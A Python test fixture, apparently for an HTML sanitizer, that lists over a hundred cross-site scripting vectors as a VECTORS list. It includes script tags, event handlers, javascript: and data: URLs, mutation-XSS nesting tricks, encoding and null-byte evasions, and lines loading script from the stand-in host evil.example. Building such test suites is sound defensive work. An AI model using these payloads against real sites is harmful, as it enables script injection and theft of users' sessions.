"""HTML that tries to run something. Every vector that works calls `ran()`."""

_LINES = """\
<script>ran()</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>ran()</scr</script>ipt>
<script/x>ran()</script>
<img src=x onerror=ran()>
<img src=x onerror="&#114;an()">
<img src="javascript:ran()">
<img src=`javascript:ran()`>
<IMG \"\"\"><SCRIPT>ran()</SCRIPT>">
<img src="/media/a.webp" onload=ran()>
<img src="/media/a.webp"onerror=ran() x="">
<img srcset="javascript:ran()" src=/media/a.webp>
<image src=x onerror=ran()>
<svg onload=ran()>
<svg><script>ran()</script></svg>
<svg><script xlink:href="data:,ran()"></script></svg>
<svg><animate onbegin=ran() attributeName=x dur=1s>
<svg><a xlink:href="javascript:ran()"><text y=9>x</text></a></svg>
<svg><set attributeName=onmouseover to=ran()>
<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>
<svg><style><img src=x onerror=ran()></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=ran()>">
<svg><title><a id="</title><img src=x onerror=ran()>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">
<math><mi//xlink:href="data:x,<script>ran()</script>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=ran()></style></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>
<iframe src="javascript:ran()"></iframe>
<iframe srcdoc="<script>parent.ran()</script>"></iframe>
<iframe/onload=ran()></iframe>
<object data="javascript:ran()"></object>
<object data="data:text/html,<script>parent.ran()</script>"></object>
<embed src="javascript:ran()">
<a href="javascript:ran()">x</a>
<a href="JaVaScRiPt:ran()">x</a>
<a href=" javascript:ran()">x</a>
<a href="java\tscript:ran()">x</a>
<a href="java&#10;script:ran()">x</a>
<a href="&#106;avascript&colon;ran()">x</a>
<a href="\u0001javascript:ran()">x</a>
<a href="vbscript:ran()">x</a>
<a href="data:text/html,<script>ran()</script>">x</a>
<a href="//evil.example" onclick=ran()>x</a>
<a href="x" onmouseover="ran()" autofocus onfocus=ran() tabindex=1>x</a>
<a href="http://testserverjavascript:ran()">x</a>
<body onload=ran()>
<body background="javascript:ran()">
<input autofocus onfocus=ran()>
<select autofocus onfocus=ran()><option>x</select>
<textarea autofocus onfocus=ran()></textarea>
<textarea></textarea><img src=x onerror=ran()>
<keygen autofocus onfocus=ran()>
<video><source onerror="ran()"></video>
<video poster=javascript:ran() src=x onerror=ran()></video>
<audio src=x onerror=ran()></audio>
<details open ontoggle=ran()>x</details>
<marquee onstart=ran()>x</marquee>
<div style="background:url(javascript:ran())">x</div>
<p style="width:expression(ran())">x</p>
<div style="behavior:url(x.htc);-moz-binding:url(x.xml#ran)">x</div>
<style>@import 'javascript:ran()';</style>
<style><!--</style><script>ran()</script>--></style>
<link rel=stylesheet href="javascript:ran()">
<link rel=import href="data:text/html,<script>ran()</script>">
<meta http-equiv=refresh content="0;url=javascript:ran()">
<base href="javascript:ran()//"><a href="x">x</a>
<table background="javascript:ran()"><tr><td background="javascript:ran()">x</table>
<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>
<template><script>ran()</script></template>
<xmp><p title="</xmp><img src=x onerror=ran()>"></xmp>
<noembed><p title="</noembed><img src=x onerror=ran()>"></noembed>
<noframes><p title="</noframes><img src=x onerror=ran()>"></noframes>
<plaintext><img src=x onerror=ran()>
<title><p title="</title><img src=x onerror=ran()>"></title>
<!--[if gte IE 4]><script>ran()</script><![endif]-->
<!--><img src=x onerror=ran()>-->
<!--!><img src=x onerror=ran()>-->
<!-- --!><img src=x onerror=ran()>
<![CDATA[<script>ran()</script>]]>
<?xml version="1.0"?><script>ran()</script>
<?php ran() ?><img src=x onerror=ran()>
<p title="a\u0338><img src=x onerror=ran()>">\u226e</p>
<p>\u003c\u0338script>ran()</script></p>
\uff1cscript\uff1eran()\uff1c/script\uff1e
&lt;script&gt;ran()&lt;/script&gt;
&amp;lt;img src=x onerror=ran()&amp;gt;
<p title="&quot;><img src=x onerror=ran()>">x</p>
<img alt="&quot; onerror=&quot;ran()" src=/media/a.webp>
<img alt='"><img src=x onerror=ran()>' src=/media/a.webp>
<a title='"><script>ran()</script>' href=/x>x</a>
<p class='"><script>ran()</script>'>x</p>
<figure class="image" onclick=ran()><img src=/media/a.webp><figcaption onclick=ran()>x</figcaption></figure>
<td><script>ran()</script>
<table><td><img src=x onerror=ran()></table>
<table><script>ran()</script></table>
<b><p><i></b><img src=x onerror=ran()></i>
<p<img src=x onerror=ran()>
<img src=x onerror=ran()//
<<img src=x onerror=ran()>>
<img\x00 src=x onerror=ran()>
<im\x00g src=x onerror=ran()>
<script\x0c>ran()</script>
<svg/onload=ran()//
<x onclick=ran()>x</x>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">ran()</x:script>
<portal src="javascript:ran()" onload=ran()></portal>
<dialog open onclose=ran() onfocus=ran() autofocus>x</dialog>
<button popovertarget=x onbeforetoggle=ran()>x</button>
<p contenteditable autofocus onfocus=ran()>x</p>
<isindex type=image src=1 onerror=ran()>
<form action="javascript:ran()"><button>x</button></form>
<button formaction="javascript:ran()">x</button>
<area href="javascript:ran()">"""

VECTORS = _LINES.split("\n")
